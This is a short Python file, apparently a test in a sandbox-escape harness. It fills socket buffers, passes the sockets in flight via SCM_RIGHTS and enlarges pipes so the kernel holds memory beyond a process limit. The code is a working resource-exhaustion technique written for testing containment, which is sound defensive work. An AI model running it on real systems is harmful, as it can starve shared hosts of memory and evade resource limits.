"""Has the kernel hold more memory than it may have itself: in pipes, in sockets, and in sockets on their way."""

import array
import contextlib
import fcntl
import os
import socket
from typing import Any


def attack(world: Any) -> list[str]:
    """As many as there are descriptors, and then more that are on their way through another socket."""
    total = 0
    carrier, _far = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    carrier.setblocking(False)
    with contextlib.suppress(OSError):
        while total < 2 * world.limits["memory_bytes"]:
            near, far = socket.socketpair()
            near.setblocking(False)
            near.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**22)
            with contextlib.suppress(BlockingIOError):
                while True:
                    total += near.send(bytes(2**16))
            carrier.sendmsg(
                [b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [near.fileno(), far.fileno()]))]
            )
            near.close()
            far.close()
    pipes = []
    with contextlib.suppress(OSError):
        while total < 2 * world.limits["memory_bytes"]:
            pipes.append(os.pipe2(os.O_NONBLOCK))
            fcntl.fcntl(pipes[-1][1], fcntl.F_SETPIPE_SZ, 2**20)
            total += os.write(pipes[-1][1], bytes(2**20))
    return [f"the kernel holds {total} bytes"] if total > 1.6 * world.limits["memory_bytes"] else []
